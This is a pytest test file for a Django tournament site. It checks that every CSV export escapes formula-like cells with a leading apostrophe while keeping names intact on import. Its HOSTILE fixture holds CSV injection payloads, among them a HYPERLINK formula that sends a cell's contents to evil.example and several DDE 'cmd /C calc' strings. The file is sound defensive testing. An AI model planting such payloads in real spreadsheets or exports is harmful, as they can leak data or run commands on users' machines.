"""CSV formula injection: every CSV the site writes neutralises a cell that a spreadsheet
would read as a formula (a leading ``'``), numbers of ours stay numbers, and the imports
keep the text as typed."""

from __future__ import annotations

import csv
import datetime
import io
import zipfile
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import translation

from clubs.exports import BOM, CSV_DELIMITER, column_titles, csv_text
from clubs.results_import import season_results_import
from clubs.season_services import season_create
from core.csv_cells import FORMULA_STARTS, spreadsheet_text
from tests.clubs.helpers import played
from tests.clubs.test_results_import import keeper
from tests.factories import ClubFactory, OrganiserFactory, PlayerFactory, UserFactory
from tournaments.csv_import import parse_entries_csv
from tournaments.models import Player

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klick")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]
HOSTILE_CLUB = "=1+1 Brädklubben"


def cells(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8")
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=CSV_DELIMITER))


def assert_no_live_formula(content: bytes, names: list[str]) -> list[list[str]]:
    table = cells(content)
    live = [c for row in table for c in row if c.startswith(FORMULA_STARTS)]
    assert live == []
    flat = {c for row in table for c in row}
    for name in names:
        assert "'" + name in flat, name
    return table


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_escaped(start: str) -> None:
    assert spreadsheet_text(f"{start}1+1") == f"'{start}1+1"


def test_other_text_is_left_as_typed() -> None:
    for text in ("Åke Sjöström", "O'Brien", "1-0", "", " =not first", "Li=Wu"):
        assert spreadsheet_text(text) == text


def test_numbers_of_ours_stay_numbers_and_text_like_numbers_is_escaped() -> None:
    rows = [{"n": -3, "d": Decimal("-1.5"), "t": "-3", "b": False}]
    (header, row) = cells(csv_text(("n", "d", "t", "b"), rows, decimal_comma=True).encode())
    assert header == ["n", "d", "t", "b"]
    assert row == ["-3", "-1,5", "'-3", "no"]


@pytest.fixture
def hostile(django_capture_on_commit_callbacks: Any) -> dict[str, Any]:
    club = ClubFactory.create(name=HOSTILE_CLUB)
    players = [PlayerFactory.create(name=n, club=club) for n in HOSTILE]
    organiser, referee = OrganiserFactory.create(), UserFactory.create()
    cup = played(
        django_capture_on_commit_callbacks,
        players,
        organiser=organiser,
        referee=referee,
        lengths=[1, 1],
        name="=cmd Cupen",
    )
    return {"cup": cup, "referee": referee}


def test_results_and_placings_csv(client: Client, hostile: dict[str, Any]) -> None:
    cup = hostile["cup"]
    for route in ("clubs:tournament_results_export", "clubs:tournament_placings_export"):
        content = client.get(reverse(route, args=[cup.pk, "csv"])).content
        assert_no_live_formula(content, [*HOSTILE, HOSTILE_CLUB])


def test_the_json_export_keeps_the_names_as_typed(client: Client, hostile: dict[str, Any]) -> None:
    cup = hostile["cup"]
    data = client.get(reverse("clubs:tournament_placings_export", args=[cup.pk, "json"])).json()
    assert {r["player"] for r in data["rows"]} == set(HOSTILE)


def test_the_rating_list_csv(client: Client, hostile: dict[str, Any]) -> None:
    content = client.get(reverse("clubs:ratings_export", args=["csv"])).content
    table = assert_no_live_formula(content, [*HOSTILE, HOSTILE_CLUB])
    header = table[0]
    with translation.override("sv"):  # the page's language: the headers follow it
        rating = column_titles()["rating"]
    ratings = [row[header.index(rating)] for row in table[1:]]
    assert ratings and all(not r.startswith("'") for r in ratings)


def test_the_archives_csvs(client: Client, hostile: dict[str, Any]) -> None:
    cup = hostile["cup"]
    client.force_login(hostile["referee"])
    response = client.get(reverse("clubs:tournament_archive", args=[cup.pk]))
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    csvs = [n for n in archive.namelist() if n.endswith(".csv")]
    assert len(csvs) == 2
    for name in csvs:
        assert_no_live_formula(archive.read(name), [*HOSTILE, HOSTILE_CLUB])


def test_the_season_import_keeps_names_and_the_standings_csv_escapes_them(
    client: Client,
) -> None:
    club = ClubFactory.create(name="Brädgillet")
    season = season_create(
        club=club,
        name="2025",
        start_date=datetime.date(2025, 1, 1),
        end_date=datetime.date(2025, 12, 31),
        by=UserFactory.create(is_superuser=True),
        tournament_taking_part=1,
        tournament_match_won=2,
        tournament_placings={"1": 5, "2": 3},
        club_night_taking_part=1,
        club_night_match_won=1,
    )
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerow(["date", "event", "player1", "player2", "winner", "length"])
    writer.writerow(["2025-03-14", "Vårcupen", HOSTILE[0], HOSTILE[1], "1", "3"])
    writer.writerow(["2025-03-14", "Vårcupen", HOSTILE[2], HOSTILE[3], "2", "3"])
    season_results_import(season=season, data=out.getvalue().encode(), by=keeper())
    # Imported as typed: no apostrophe, nothing stripped.
    assert set(Player.objects.values_list("name", flat=True)) == set(HOSTILE)
    content = client.get(reverse("clubs:season_export", args=[season.pk, "csv"])).content
    assert_no_live_formula(content, HOSTILE)


def test_the_players_import_keeps_names_as_typed() -> None:
    data = "name;club\r\n" + f'"{HOSTILE[0].replace(chr(34), chr(34) * 2)}";{HOSTILE_CLUB}\r\n'
    (row,) = parse_entries_csv(data.encode())
    assert (row.name, row.club) == (HOSTILE[0], HOSTILE_CLUB)
